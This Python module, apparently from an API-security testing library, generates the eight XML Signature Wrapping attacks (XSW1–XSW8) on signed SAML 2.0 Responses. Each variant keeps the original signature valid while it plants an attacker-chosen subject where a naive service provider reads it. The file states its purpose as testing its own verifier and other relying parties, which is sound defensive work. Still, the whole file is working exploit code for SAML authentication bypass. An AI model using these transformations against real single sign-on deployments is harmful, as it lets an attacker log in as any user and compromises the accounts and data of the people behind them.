"""XML Signature Wrapping variants XSW1–XSW8 (SAML Raider's catalogue).

Generates the eight classic attacks of Somorovsky et al., "On Breaking SAML:
Be Whoever You Want to Be" (USENIX Security 2012), in the form SAML Raider
(the Burp extension) applies them, from a genuinely signed SAML 2.0
Response.  Every variant keeps the original signature *cryptographically
valid* (``xmlsec1 --verify`` still says OK) while putting attacker content
(``evil_subject`` as NameID) where a naive relying party reads it.  apisec's
own tests feed them to :func:`wssec.saml.verify`, which must refuse all of
them; ``apisec soap saml xsw`` writes them out to test other relying parties.

* XSW1 – Response signature; an unsigned copy of the original Response is
  put *inside* the Signature, the outer (evil) Response and its assertion
  get new IDs.
* XSW2 – as XSW1 but the copy is a sibling placed *before* the Signature.
* XSW3 – Assertion signature; an evil unsigned assertion is inserted
  before the signed one (first assertion wins in naive code).
* XSW4 – the evil assertion *wraps* the signed one.
* XSW5 – the signed assertion element becomes the evil one (new ID, changed
  subject, keeps the Signature); an unsigned copy of the original with the
  original ID is appended to the Response.
* XSW6 – as XSW5 but the original copy goes *inside* the evil assertion's
  Signature.  (libxmlsec1's enveloped-signature transform happens to drop
  content inside the verifying Signature, so here and in XSW8 even the
  digest fails; Java/.NET-era verifiers that just removed the Signature
  child were fooled.)
* XSW7 – the signed original is hidden in a samlp:Extensions element; the
  evil unsigned assertion sits where assertions belong.
* XSW8 – as XSW6 but the original copy is wrapped in a ds:Object inside the
  Signature.
"""

from __future__ import annotations

import copy
from collections.abc import Callable

from lxml import etree

from wssec.errors import MalformedMessage
from wssec.safexml import parse_xml
from wssec.saml import ns

_A = ns.q(ns.SAML2_NS, "Assertion")
_SIG = ns.q(ns.DS_NS, "Signature")
_NAMEID = ns.q(ns.SAML2_NS, "NameID")
EVIL_RESPONSE_ID = "_evil_response_ID"
EVIL_ASSERTION_ID = "_evil_assertion_ID"


def _signature(el: etree._Element, what: str) -> etree._Element:
    sig = el.find(_SIG)
    if sig is None:
        raise MalformedMessage(f"{what} must be signed for this XSW variant")
    return sig


def _assertion(resp: etree._Element) -> etree._Element:
    a = resp.find(_A)
    if a is None:
        raise MalformedMessage("the Response holds no SAML 2.0 assertion")
    return a


def _make_evil(el: etree._Element, evil_subject: str) -> None:
    for nid in el.iter(_NAMEID):
        nid.text = evil_subject
        for child in list(nid):
            nid.remove(child)


def _unsigned_copy(el: etree._Element) -> etree._Element:
    clone = copy.deepcopy(el)
    sig = clone.find(_SIG)
    if sig is not None:
        clone.remove(sig)
    return clone


def _xsw1(resp: etree._Element, evil: str, *, inside: bool = True) -> None:
    sig = _signature(resp, "the Response")
    original = _unsigned_copy(resp)
    if inside:
        sig.append(original)
    else:
        sig.addprevious(original)
    resp.set("ID", EVIL_RESPONSE_ID)
    evil_assertion = _assertion(resp)
    evil_assertion.set("ID", EVIL_ASSERTION_ID)  # the original's ID lives on in the copy
    _make_evil(evil_assertion, evil)


def _xsw2(resp: etree._Element, evil: str) -> None:
    _xsw1(resp, evil, inside=False)


def _evil_assertion(a: etree._Element, evil: str) -> etree._Element:
    e = _unsigned_copy(a)
    e.set("ID", EVIL_ASSERTION_ID)
    _make_evil(e, evil)
    return e


def _xsw3(resp: etree._Element, evil: str) -> None:
    a = _assertion(resp)
    _signature(a, "the Assertion")
    a.addprevious(_evil_assertion(a, evil))


def _xsw4(resp: etree._Element, evil: str) -> None:
    a = _assertion(resp)
    _signature(a, "the Assertion")
    e = _evil_assertion(a, evil)
    a.addprevious(e)
    e.append(a)  # moves the signed original inside the evil assertion


def _xsw5(resp: etree._Element, evil: str, *, where: str = "end") -> None:
    a = _assertion(resp)
    sig = _signature(a, "the Assertion")
    original = _unsigned_copy(a)
    a.set("ID", EVIL_ASSERTION_ID)
    _make_evil(a, evil)
    if where == "end":
        resp.append(original)
    elif where == "signature":
        sig.append(original)
    else:  # "object"
        obj = etree.SubElement(sig, ns.q(ns.DS_NS, "Object"))
        obj.append(original)


def _xsw6(resp: etree._Element, evil: str) -> None:
    _xsw5(resp, evil, where="signature")


def _xsw7(resp: etree._Element, evil: str) -> None:
    a = _assertion(resp)
    _signature(a, "the Assertion")
    e = _evil_assertion(a, evil)
    ext = etree.Element(ns.q(ns.SAMLP2_NS, "Extensions"))
    issuer = resp.find(ns.q(ns.SAML2_NS, "Issuer"))
    (issuer.addnext if issuer is not None else (lambda x: resp.insert(0, x)))(ext)
    a.addprevious(e)
    ext.append(a)


def _xsw8(resp: etree._Element, evil: str) -> None:
    _xsw5(resp, evil, where="object")


VARIANTS: dict[str, tuple[str, Callable[[etree._Element, str], None]]] = {
    "XSW1": ("response", _xsw1),
    "XSW2": ("response", _xsw2),
    "XSW3": ("assertion", _xsw3),
    "XSW4": ("assertion", _xsw4),
    "XSW5": ("assertion", _xsw5),
    "XSW6": ("assertion", _xsw6),
    "XSW7": ("assertion", _xsw7),
    "XSW8": ("assertion", _xsw8),
}
"""name -> (which signature the variant abuses, transformation)."""


def wrap(variant: str, signed_response: bytes, *, evil_subject: str = "attacker") -> bytes:
    """Apply one XSW variant to a signed SAML 2.0 Response and return the attack.

    XSW1/XSW2 need a signed Response, XSW3–XSW8 a signed Assertion (SAML
    Raider's split); the input is parsed with the hardened parser.
    """
    if variant not in VARIANTS:
        raise ValueError(f"unknown XSW variant {variant!r} (XSW1..XSW8)")
    resp = parse_xml(signed_response, what="SAML Response")
    if resp.tag != ns.q(ns.SAMLP2_NS, "Response"):
        raise MalformedMessage("XSW variants are built from a SAML 2.0 samlp:Response")
    VARIANTS[variant][1](resp, evil_subject)
    return etree.tostring(resp)


__all__ = ["EVIL_ASSERTION_ID", "EVIL_RESPONSE_ID", "VARIANTS", "wrap"]
